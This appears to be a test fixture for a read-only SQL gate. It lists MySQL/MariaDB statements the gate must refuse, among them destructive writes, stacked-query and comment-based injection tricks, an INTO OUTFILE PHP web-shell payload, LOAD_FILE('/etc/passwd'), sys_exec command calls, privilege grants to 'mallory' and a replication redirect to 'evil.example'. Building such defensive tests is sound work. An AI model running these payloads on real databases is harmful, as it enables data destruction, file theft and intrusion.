-- Statements the MySQL / MariaDB gate must refuse; each would damage accounts or lift read-only mode.
-- Format: see tests/corpus/__init__.py.
-- @@
-- kind: plain DELETE
DELETE FROM accounts
-- @@
-- kind: plain UPDATE
UPDATE accounts SET balance = 0
-- @@
-- kind: plain INSERT
INSERT INTO accounts (id, owner, balance) VALUES (9001, 'mallory', 1000000)
-- @@
-- kind: INSERT ... SET
INSERT INTO accounts SET id = 9002, owner = 'mallory', balance = 1
-- @@
-- kind: INSERT IGNORE
INSERT IGNORE INTO accounts VALUES (9003, 'mallory', 1)
-- @@
-- kind: INSERT ... SELECT
INSERT INTO accounts SELECT id + 100000, owner, balance FROM accounts
-- @@
-- kind: INSERT ... ON DUPLICATE KEY UPDATE
INSERT INTO accounts VALUES (1, 'mallory', 0) ON DUPLICATE KEY UPDATE balance = 0
-- @@
-- kind: REPLACE
REPLACE INTO accounts VALUES (1, 'mallory', 0)
-- @@
-- kind: REPLACE ... SELECT
REPLACE INTO accounts SELECT id, 'mallory', 0 FROM accounts
-- @@
-- kind: LOW_PRIORITY UPDATE
UPDATE LOW_PRIORITY accounts SET balance = 0
-- @@
-- kind: UPDATE with ORDER BY and LIMIT
UPDATE accounts SET balance = 0 ORDER BY id LIMIT 10
-- @@
-- kind: multi-table UPDATE
UPDATE accounts a JOIN accounts b ON a.id = b.id SET a.balance = 0
-- @@
-- kind: DELETE with LIMIT
DELETE FROM accounts ORDER BY id LIMIT 1
-- @@
-- kind: multi-table DELETE
DELETE a FROM accounts a JOIN accounts b ON a.id = b.id
-- @@
-- kind: DELETE ... RETURNING (MariaDB)
DELETE FROM accounts RETURNING id
-- @@
-- kind: INSERT ... RETURNING (MariaDB)
INSERT INTO accounts VALUES (9004, 'mallory', 1) RETURNING id
-- @@
-- kind: TRUNCATE
TRUNCATE accounts
-- @@
-- kind: TRUNCATE TABLE
TRUNCATE TABLE accounts
-- @@
-- kind: DROP TABLE
DROP TABLE accounts
-- @@
-- kind: DROP TABLE IF EXISTS
DROP TABLE IF EXISTS accounts
-- @@
-- kind: DROP DATABASE
DROP DATABASE IF EXISTS pwned
-- @@
-- kind: ALTER TABLE add column
ALTER TABLE accounts ADD COLUMN pwned tinyint DEFAULT 1
-- @@
-- kind: ALTER TABLE drop column
ALTER TABLE accounts DROP COLUMN balance
-- @@
-- kind: ALTER TABLE engine
ALTER TABLE accounts ENGINE = MEMORY
-- @@
-- kind: RENAME TABLE
RENAME TABLE accounts TO accounts_gone
-- @@
-- kind: CREATE TABLE
CREATE TABLE pwned (id int)
-- @@
-- kind: CREATE TABLE ... SELECT
CREATE TABLE accounts_copy SELECT * FROM accounts
-- @@
-- kind: CREATE TEMPORARY TABLE
CREATE TEMPORARY TABLE t AS SELECT * FROM accounts
-- @@
-- kind: CREATE INDEX
CREATE INDEX owner_idx ON accounts (owner)
-- @@
-- kind: DROP INDEX
DROP INDEX `PRIMARY` ON accounts
-- @@
-- kind: CREATE VIEW
CREATE VIEW v AS SELECT * FROM accounts
-- @@
-- kind: CREATE DATABASE
CREATE DATABASE pwned
-- @@
-- kind: CREATE SEQUENCE (MariaDB)
CREATE SEQUENCE acct_seq
-- @@
-- kind: OPTIMIZE TABLE
OPTIMIZE TABLE accounts
-- @@
-- kind: REPAIR TABLE
REPAIR TABLE accounts
-- @@
-- kind: ANALYZE TABLE
ANALYZE TABLE accounts
-- @@
-- kind: lower case
delete from accounts
-- @@
-- kind: mixed case
dElEtE fRoM accounts
-- @@
-- kind: leading whitespace
 	 DELETE FROM accounts
-- @@
-- kind: keywords split over lines
UPDATE
accounts
SET
balance = 0
-- @@
-- kind: comments instead of spaces
DELETE/**/FROM/**/accounts
-- @@
-- kind: leading block comment
/* SELECT */ DELETE FROM accounts
-- @@
-- kind: leading hash comment
# SELECT 1
DELETE FROM accounts
-- @@
-- kind: leading dash comment
-- SELECT 1
DELETE FROM accounts
-- @@
-- kind: backquoted table name
DELETE FROM `accounts`
-- @@
-- kind: always-true WHERE
DELETE FROM accounts WHERE 1 = 1
-- @@
-- kind: trailing semicolon
DELETE FROM accounts;
-- @@
-- kind: tabs between keywords
UPDATE	accounts	SET	balance=0
-- @@
-- kind: form feed as whitespace
-- escaped: yes
DELETE\fFROM accounts
-- @@
-- kind: carriage return as whitespace
-- escaped: yes
DELETE\rFROM accounts
-- @@
-- kind: stacked DELETE
SELECT 1; DELETE FROM accounts
-- @@
-- kind: stacked without space
SELECT 1;DELETE FROM accounts;
-- @@
-- kind: stacked on a new line
SELECT 1;
DELETE FROM accounts
-- @@
-- kind: stacked behind a block comment
SELECT 1; /* x */ DELETE FROM accounts
-- @@
-- kind: stacked behind a hash comment
SELECT 1; # x
DELETE FROM accounts
-- @@
-- kind: semicolon in a string, then a real one
SELECT ';'; DELETE FROM accounts
-- @@
-- kind: semicolon in a double-quoted string
SELECT ";"; UPDATE accounts SET balance = 0
-- @@
-- kind: semicolon in a backquoted alias
SELECT 1 AS `;`; DELETE FROM accounts
-- @@
-- kind: SHOW then SET
SHOW VARIABLES LIKE 'read_only'; SET GLOBAL read_only = 0
-- @@
-- kind: TABLE then DELETE
TABLE accounts; DELETE FROM accounts
-- @@
-- kind: BEGIN; DELETE; COMMIT
BEGIN; DELETE FROM accounts; COMMIT
-- @@
-- kind: START TRANSACTION READ ONLY then a write in the next transaction
START TRANSACTION READ ONLY; COMMIT; DELETE FROM accounts
-- @@
-- kind: three statements
SELECT 1; SELECT 2; TRUNCATE accounts
-- @@
-- kind: empty statements around DELETE
;;DELETE FROM accounts;;
-- @@
-- kind: DELETE first, SELECT after
DELETE FROM accounts; SELECT 1
-- @@
-- kind: EXPLAIN then DELETE
EXPLAIN SELECT 1; DELETE FROM accounts
-- @@
-- kind: DESCRIBE then DROP
DESCRIBE accounts; DROP TABLE accounts
-- @@
-- kind: double dash without space is not a comment in MySQL
SELECT 1 --(1);DELETE FROM accounts
-- @@
-- kind: double dash without space, hiding a function
SELECT 1 --SLEEP(30)
-- @@
-- kind: double dash followed by a number
SELECT 1 --1;DELETE FROM accounts
-- @@
-- kind: hash comment ended by newline
SELECT 1 # comment
; DELETE FROM accounts
-- @@
-- kind: dash comment ended by newline
SELECT 1 -- comment
; DELETE FROM accounts
-- @@
-- kind: MySQL does not nest comments
SELECT 1 /* /* */ ; DELETE FROM accounts; -- */
-- @@
-- kind: nested comment opener
SELECT 1 /* a /* b */ ; UPDATE accounts SET balance = 0 -- */
-- @@
-- kind: block comment then a statement
SELECT 1 /* c */; DELETE FROM accounts
-- @@
-- kind: backslash-escaped quote, then a statement
SELECT '\''; DELETE FROM accounts; -- '
-- @@
-- kind: backslash-escaped double quote, then a statement
SELECT "\""; DELETE FROM accounts; -- "
-- @@
-- kind: escaped backslash ends the string
SELECT 'a\\'; DELETE FROM accounts; -- '
-- @@
-- kind: backslash before quote under NO_BACKSLASH_ESCAPES
SELECT 'x\'; DELETE FROM accounts; -- '
-- @@
-- kind: backslash in a double-quoted string
SELECT "x\"; DELETE FROM accounts; -- "
-- @@
-- kind: doubled quotes then a statement
SELECT 'it''s'; DELETE FROM accounts
-- @@
-- kind: NUL byte
-- escaped: yes
SELECT 1\x00; DELETE FROM accounts
-- @@
-- kind: non-breaking space
-- escaped: yes
SELECT 1;\u00a0DELETE FROM accounts
-- @@
-- kind: ideographic space
-- escaped: yes
SELECT 1;\u3000DELETE FROM accounts
-- @@
-- kind: vertical tab
-- escaped: yes
SELECT 1;\vDELETE FROM accounts
-- @@
-- kind: function name split by a comment
SELECT SLEEP/**/(30)
-- @@
-- kind: introducer string then a statement
SELECT _utf8mb4'a'; DELETE FROM accounts
-- @@
-- kind: hex literal then a statement
SELECT X'41'; DELETE FROM accounts
-- @@
-- kind: executable comment DELETE
/*! DELETE FROM accounts */
-- @@
-- kind: versioned executable comment DELETE
/*!50000 DELETE FROM accounts */
-- @@
-- kind: executable comment after SELECT
SELECT 1 /*!; DELETE FROM accounts */
-- @@
-- kind: executable comment adds a call
SELECT 1 /*!, SLEEP(30) */
-- @@
-- kind: versioned executable comment adds a call
SELECT 1 /*!40000 , GET_LOCK('pwned', 0) */
-- @@
-- kind: MariaDB executable comment
/*M! DELETE FROM accounts */
-- @@
-- kind: MariaDB versioned executable comment
SELECT 1 /*M!100000 ; UPDATE accounts SET balance = 0 */
-- @@
-- kind: executable comment adds FOR UPDATE
SELECT * FROM accounts /*! FOR UPDATE */
-- @@
-- kind: executable comment adds INTO OUTFILE
SELECT * FROM accounts /*! INTO OUTFILE '/tmp/sqlgate_accounts.txt' */
-- @@
-- kind: executable comment SET GLOBAL
/*!40101 SET GLOBAL read_only = 0 */
-- @@
-- kind: executable comment inside a WHERE
SELECT * FROM accounts WHERE 1 = 1 /*! AND SLEEP(30) */
-- @@
-- kind: executable comment in lower case keyword position
select /*!99999 1, */ id from accounts; delete from accounts
-- @@
-- kind: INTO OUTFILE
SELECT * FROM accounts INTO OUTFILE '/tmp/sqlgate_accounts.csv'
-- @@
-- kind: INTO OUTFILE with field options
SELECT * FROM accounts INTO OUTFILE '/tmp/sqlgate_a.csv' FIELDS TERMINATED BY ','
-- @@
-- kind: INTO OUTFILE before FROM
SELECT * INTO OUTFILE '/tmp/sqlgate_b.csv' FROM accounts
-- @@
-- kind: INTO DUMPFILE
SELECT owner FROM accounts LIMIT 1 INTO DUMPFILE '/tmp/sqlgate_dump.bin'
-- @@
-- kind: INTO OUTFILE web shell
SELECT '<?php system($_GET[1]); ?>' INTO OUTFILE '/var/www/html/sqlgate.php'
-- @@
-- kind: INTO user variables
SELECT balance INTO @b FROM accounts LIMIT 1
-- @@
-- kind: INTO after UNION
SELECT id FROM accounts UNION SELECT 1 INTO OUTFILE '/tmp/sqlgate_u.csv'
-- @@
-- kind: TABLE ... INTO OUTFILE
TABLE accounts INTO OUTFILE '/tmp/sqlgate_t.csv'
-- @@
-- kind: FOR UPDATE
SELECT * FROM accounts FOR UPDATE
-- @@
-- kind: LOCK IN SHARE MODE
SELECT * FROM accounts LOCK IN SHARE MODE
-- @@
-- kind: FOR SHARE (MySQL 8)
SELECT * FROM accounts FOR SHARE
-- @@
-- kind: FOR UPDATE NOWAIT
SELECT * FROM accounts FOR UPDATE NOWAIT
-- @@
-- kind: FOR UPDATE SKIP LOCKED
SELECT * FROM accounts FOR UPDATE SKIP LOCKED
-- @@
-- kind: FOR UPDATE in a subquery
SELECT * FROM (SELECT * FROM accounts FOR UPDATE) t
-- @@
-- kind: LOCK TABLES
LOCK TABLES accounts WRITE
-- @@
-- kind: LOCK TABLE
LOCK TABLE accounts READ
-- @@
-- kind: FLUSH TABLES WITH READ LOCK
FLUSH TABLES WITH READ LOCK
-- @@
-- kind: GET_LOCK
SELECT GET_LOCK('pwned', 10)
-- @@
-- kind: RELEASE_LOCK
SELECT RELEASE_LOCK('pwned')
-- @@
-- kind: RELEASE_ALL_LOCKS
SELECT RELEASE_ALL_LOCKS()
-- @@
-- kind: LOAD_FILE
SELECT LOAD_FILE('/etc/passwd')
-- @@
-- kind: LOAD_FILE in WHERE
SELECT * FROM accounts WHERE LOAD_FILE('/etc/passwd') IS NOT NULL
-- @@
-- kind: SLEEP (denial of service)
SELECT SLEEP(3600)
-- @@
-- kind: SLEEP for every row
SELECT * FROM accounts WHERE SLEEP(10) = 0
-- @@
-- kind: SLEEP in ORDER BY
SELECT * FROM accounts ORDER BY SLEEP(10)
-- @@
-- kind: SLEEP in HAVING
SELECT owner FROM accounts GROUP BY owner HAVING SLEEP(10) = 0
-- @@
-- kind: SLEEP in a subquery
SELECT (SELECT SLEEP(30))
-- @@
-- kind: SLEEP in a derived table
SELECT * FROM (SELECT SLEEP(30) AS s) t
-- @@
-- kind: SLEEP in a CTE
WITH s AS (SELECT SLEEP(30)) SELECT * FROM s
-- @@
-- kind: SLEEP in IF()
SELECT IF(1 = 1, SLEEP(30), 0)
-- @@
-- kind: SLEEP in JOIN ON
SELECT * FROM accounts a JOIN accounts b ON SLEEP(1) = 0
-- @@
-- kind: SLEEP lower case
select sleep(30)
-- @@
-- kind: SLEEP backquoted
SELECT `SLEEP`(30)
-- @@
-- kind: SLEEP in a UNION branch
SELECT 1 UNION SELECT SLEEP(30)
-- @@
-- kind: BENCHMARK
SELECT BENCHMARK(100000000, SHA2('x', 512))
-- @@
-- kind: MASTER_POS_WAIT
SELECT MASTER_POS_WAIT('log.000001', 4, 3600)
-- @@
-- kind: SOURCE_POS_WAIT
SELECT SOURCE_POS_WAIT('log.000001', 4, 3600)
-- @@
-- kind: MASTER_GTID_WAIT (MariaDB)
SELECT MASTER_GTID_WAIT('0-1-100', 3600)
-- @@
-- kind: WAIT_FOR_EXECUTED_GTID_SET
SELECT WAIT_FOR_EXECUTED_GTID_SET('3E11FA47-71CA-11E1-9E33-C80AA9429562:1-5', 3600)
-- @@
-- kind: NEXTVAL (MariaDB)
SELECT NEXTVAL(acct_seq)
-- @@
-- kind: NEXT VALUE FOR (MariaDB)
SELECT NEXT VALUE FOR acct_seq
-- @@
-- kind: SETVAL (MariaDB)
SELECT SETVAL(acct_seq, 1000000)
-- @@
-- kind: LASTVAL (MariaDB)
SELECT LASTVAL(acct_seq)
-- @@
-- kind: sequence .nextval
SELECT acct_seq.nextval
-- @@
-- kind: NEXT VALUE FOR in lower case
select next value for acct_seq
-- @@
-- kind: sys_exec UDF
SELECT sys_exec('touch /tmp/sqlgate_pwned')
-- @@
-- kind: sys_eval UDF
SELECT sys_eval('id')
-- @@
-- kind: side-effect function in SHOW ... WHERE
SHOW VARIABLES WHERE Variable_name = 'x' OR SLEEP(30) = 0
-- @@
-- kind: side-effect function in SHOW TABLES WHERE
SHOW TABLES WHERE GET_LOCK('pwned', 0) = 1
-- @@
-- kind: DO evaluates expressions
DO SLEEP(30)
-- @@
-- kind: DO GET_LOCK
DO GET_LOCK('pwned', 0)
-- @@
-- kind: SET_VAR optimizer hint
SELECT /*+ SET_VAR(sql_mode = '') */ * FROM accounts
-- @@
-- kind: user variable assignment
SELECT @a := 1
-- @@
-- kind: user variable assignment from a query
SELECT @total := (SELECT SUM(balance) FROM accounts)
-- @@
-- kind: user variable assignment in WHERE
SELECT * FROM accounts WHERE (@n := @n + 1) > 0
-- @@
-- kind: SET user variable
SET @a = 1
-- @@
-- kind: SET user variable with :=
SET @a := (SELECT COUNT(*) FROM accounts)
-- @@
-- kind: SET GLOBAL read_only
SET GLOBAL read_only = 0
-- @@
-- kind: SET @@global
SET @@global.read_only = OFF
-- @@
-- kind: SET SESSION transaction_read_only
SET SESSION transaction_read_only = 0
-- @@
-- kind: SET @@session.transaction_read_only
SET @@session.transaction_read_only = 0
-- @@
-- kind: SET tx_read_only
SET tx_read_only = 0
-- @@
-- kind: SET SESSION TRANSACTION READ WRITE
SET SESSION TRANSACTION READ WRITE
-- @@
-- kind: SET TRANSACTION READ WRITE
SET TRANSACTION READ WRITE
-- @@
-- kind: SET autocommit
SET autocommit = 0
-- @@
-- kind: SET sql_mode
SET sql_mode = ''
-- @@
-- kind: SET sql_log_bin
SET sql_log_bin = 0
-- @@
-- kind: SET PERSIST
SET PERSIST read_only = OFF
-- @@
-- kind: SET PASSWORD
SET PASSWORD = 'pwned'
-- @@
-- kind: SET ROLE
SET ROLE ALL
-- @@
-- kind: SET NAMES
SET NAMES latin1
-- @@
-- kind: SET STATEMENT ... FOR (MariaDB)
SET STATEMENT max_statement_time = 1000 FOR DELETE FROM accounts
-- @@
-- kind: SET lower case
set session transaction_read_only = off
-- @@
-- kind: START TRANSACTION READ WRITE
START TRANSACTION READ WRITE
-- @@
-- kind: START TRANSACTION with snapshot, READ WRITE
START TRANSACTION WITH CONSISTENT SNAPSHOT, READ WRITE
-- @@
-- kind: SAVEPOINT
SAVEPOINT s1
-- @@
-- kind: RELEASE SAVEPOINT
RELEASE SAVEPOINT s1
-- @@
-- kind: ROLLBACK TO SAVEPOINT
ROLLBACK TO SAVEPOINT s1
-- @@
-- kind: XA START
XA START 'pwned'
-- @@
-- kind: XA COMMIT
XA COMMIT 'pwned'
-- @@
-- kind: CALL
CALL reset_balances()
-- @@
-- kind: CREATE PROCEDURE
CREATE PROCEDURE wipe() DELETE FROM accounts
-- @@
-- kind: CREATE FUNCTION
CREATE FUNCTION f() RETURNS INT DETERMINISTIC RETURN 1
-- @@
-- kind: CREATE TRIGGER
CREATE TRIGGER t BEFORE INSERT ON accounts FOR EACH ROW SET NEW.balance = 0
-- @@
-- kind: CREATE EVENT
CREATE EVENT e ON SCHEDULE EVERY 1 MINUTE DO DELETE FROM accounts
-- @@
-- kind: PREPARE
PREPARE wipe FROM 'DELETE FROM accounts'
-- @@
-- kind: EXECUTE
EXECUTE wipe
-- @@
-- kind: DEALLOCATE PREPARE
DEALLOCATE PREPARE wipe
-- @@
-- kind: HANDLER OPEN
HANDLER accounts OPEN
-- @@
-- kind: HANDLER READ
HANDLER accounts READ FIRST
-- @@
-- kind: LOAD DATA INFILE
LOAD DATA INFILE '/tmp/sqlgate.csv' INTO TABLE accounts
-- @@
-- kind: LOAD DATA LOCAL INFILE
LOAD DATA LOCAL INFILE '/tmp/sqlgate.csv' REPLACE INTO TABLE accounts
-- @@
-- kind: LOAD XML
LOAD XML INFILE '/tmp/sqlgate.xml' INTO TABLE accounts
-- @@
-- kind: LOAD INDEX INTO CACHE
LOAD INDEX INTO CACHE accounts
-- @@
-- kind: CACHE INDEX
CACHE INDEX accounts IN hot_cache
-- @@
-- kind: GRANT
GRANT ALL PRIVILEGES ON *.* TO 'mallory'@'%'
-- @@
-- kind: REVOKE
REVOKE SELECT ON accounts FROM CURRENT_USER
-- @@
-- kind: CREATE USER
CREATE USER 'mallory'@'%' IDENTIFIED BY 'x'
-- @@
-- kind: DROP USER
DROP USER 'root'@'localhost'
-- @@
-- kind: ALTER USER
ALTER USER CURRENT_USER() IDENTIFIED BY 'pwned'
-- @@
-- kind: RENAME USER
RENAME USER 'root'@'localhost' TO 'gone'@'localhost'
-- @@
-- kind: KILL
KILL 1
-- @@
-- kind: KILL QUERY
KILL QUERY 1
-- @@
-- kind: SHUTDOWN
SHUTDOWN
-- @@
-- kind: FLUSH PRIVILEGES
FLUSH PRIVILEGES
-- @@
-- kind: FLUSH LOGS
FLUSH LOGS
-- @@
-- kind: RESET MASTER
RESET MASTER
-- @@
-- kind: RESET QUERY CACHE
RESET QUERY CACHE
-- @@
-- kind: PURGE BINARY LOGS
PURGE BINARY LOGS BEFORE NOW()
-- @@
-- kind: INSTALL PLUGIN
INSTALL PLUGIN pwned SONAME 'pwned.so'
-- @@
-- kind: INSTALL SONAME (MariaDB)
INSTALL SONAME 'ha_blackhole'
-- @@
-- kind: UNINSTALL PLUGIN
UNINSTALL PLUGIN validate_password
-- @@
-- kind: CHANGE MASTER
CHANGE MASTER TO MASTER_HOST = 'evil.example'
-- @@
-- kind: STOP SLAVE
STOP SLAVE
-- @@
-- kind: START REPLICA
START REPLICA
-- @@
-- kind: BINLOG event
BINLOG 'AAAA'
-- @@
-- kind: MariaDB ANALYZE executes the DELETE
ANALYZE DELETE FROM accounts
-- @@
-- kind: MariaDB ANALYZE FORMAT=JSON executes the UPDATE
ANALYZE FORMAT=JSON UPDATE accounts SET balance = 0
-- @@
-- kind: EXPLAIN of a DELETE
EXPLAIN DELETE FROM accounts
-- @@
-- kind: EXPLAIN ANALYZE of a DELETE
EXPLAIN ANALYZE DELETE FROM accounts
-- @@
-- kind: EXPLAIN FORMAT=JSON of an UPDATE
EXPLAIN FORMAT=JSON UPDATE accounts SET balance = 0
-- @@
-- kind: EXPLAIN ANALYZE of a side-effect SELECT
EXPLAIN ANALYZE SELECT SLEEP(30)
-- @@
-- kind: DESCRIBE of a DELETE
DESCRIBE DELETE FROM accounts
-- @@
-- kind: DESC of an INSERT
DESC INSERT INTO accounts VALUES (9005, 'mallory', 1)
-- @@
-- kind: EXPLAIN of SELECT FOR UPDATE
EXPLAIN ANALYZE SELECT * FROM accounts FOR UPDATE
-- @@
-- kind: CTE followed by UPDATE (MySQL 8)
WITH t AS (SELECT 1 AS one) UPDATE accounts SET balance = (SELECT one FROM t)
-- @@
-- kind: CTE followed by DELETE (MySQL 8)
WITH t AS (SELECT id FROM accounts) DELETE FROM accounts WHERE id IN (SELECT id FROM t)
-- @@
-- kind: placeholder inside a string literal
SELECT * FROM accounts WHERE owner = '%s'; DELETE FROM accounts
-- @@
-- kind: placeholder inside a comment
SELECT * FROM accounts # %s
; DELETE FROM accounts
-- @@
-- kind: placeholders around a DELETE
SELECT %s; DELETE FROM accounts WHERE id = %(id)s
-- @@
-- kind: question-mark placeholder in an UPDATE
UPDATE accounts SET balance = ? WHERE id = ?
-- @@
-- kind: SET SESSION lifting sqlgate's statement_timeout (MariaDB)
SET SESSION max_statement_time = 0
-- @@
-- kind: SET @@session lifting sqlgate's statement_timeout (MariaDB)
SET @@session.max_statement_time = 0
-- @@
-- kind: SET lifting sqlgate's statement_timeout (MySQL)
SET max_execution_time = 0
-- @@
-- kind: SET STATEMENT ... FOR lifting the statement timeout of a read (MariaDB)
SET STATEMENT max_statement_time = 0 FOR SELECT COUNT(*) FROM accounts
-- @@
-- Session statements (issue #9): variants of the admitted session settings that must stay refused.
-- @@
-- kind: SET NAMES changes how the server reads bytes
SET NAMES 'gbk'
-- @@
-- kind: SET NAMES, even utf8mb4 (decided: refused)
SET NAMES utf8mb4
-- @@
-- kind: SET CHARACTER SET
SET CHARACTER SET gbk
-- @@
-- kind: character_set_client
SET character_set_client = gbk
-- @@
-- kind: character_set_client with SESSION
SET SESSION character_set_client = 'big5'
-- @@
-- kind: sql_mode NO_BACKSLASH_ESCAPES changes lexing
SET sql_mode = 'NO_BACKSLASH_ESCAPES'
-- @@
-- kind: sql_mode ANSI_QUOTES changes lexing
SET SESSION sql_mode = 'ANSI_QUOTES'
-- @@
-- kind: @@session spelling
SET @@session.time_zone = '+00:00'
-- @@
-- kind: @@ spelling
SET @@time_zone = '+00:00'
-- @@
-- kind: value from a subquery
SET time_zone = (SELECT '+00:00')
-- @@
-- kind: value from a user variable
SET time_zone = @x
-- @@
-- kind: multi-setting SET
SET time_zone = '+00:00', tx_read_only = 0
-- @@
-- kind: multi-setting SET with SESSION
SET SESSION time_zone = '+00:00', SESSION transaction_read_only = 0
-- @@
-- kind: SET LOCAL
SET LOCAL time_zone = '+00:00'
-- @@
-- kind: SET GLOBAL
SET GLOBAL time_zone = '+00:00'
-- @@
-- kind: SET PERSIST
SET PERSIST time_zone = '+00:00'
-- @@
-- kind: DEFAULT
SET sql_select_limit = DEFAULT
-- @@
-- kind: a statement time that rounds to zero
SET max_statement_time = 0.0001
-- @@
-- kind: READ WRITE after the isolation level
SET SESSION TRANSACTION ISOLATION LEVEL READ COMMITTED, READ WRITE
-- @@
-- kind: READ ONLY is not needed and not admitted
SET TRANSACTION READ ONLY
-- @@
-- kind: autocommit (decided: the driver manages it)
SET autocommit = 1
-- @@
-- kind: comment inside
SET time_zone /* x */ = '+00:00'
-- @@
-- kind: trailing comment
SET time_zone = '+00:00' # x
-- @@
-- kind: quoted name
SET `time_zone` = '+00:00'
-- @@
-- kind: := assignment
SET time_zone := '+00:00'
-- @@
-- kind: charset introducer
SET time_zone = _utf8mb4'+00:00'
-- @@
-- kind: a second statement
SET time_zone = '+00:00'; DELETE FROM accounts
-- @@
-- kind: backslash in the value
SET time_zone = '+00:00\\'
-- @@
-- kind: SET ROLE NONE
SET ROLE NONE
-- @@
-- kind: SET DEFAULT ROLE
SET DEFAULT ROLE ALL TO root
-- @@
-- kind: USE then a write
USE mysql; DELETE FROM user
-- @@
-- kind: USE with a comment
USE mysql /* x */
-- @@
-- kind: USE with two names
USE mysql test
-- @@
-- kind: max_execution_time zero
SET SESSION max_execution_time = 0
-- @@
-- kind: a variable off the allow-list
SET SESSION sql_safe_updates = 0
-- @@
-- kind: wsrep / replication variables
SET SESSION wsrep_on = 0
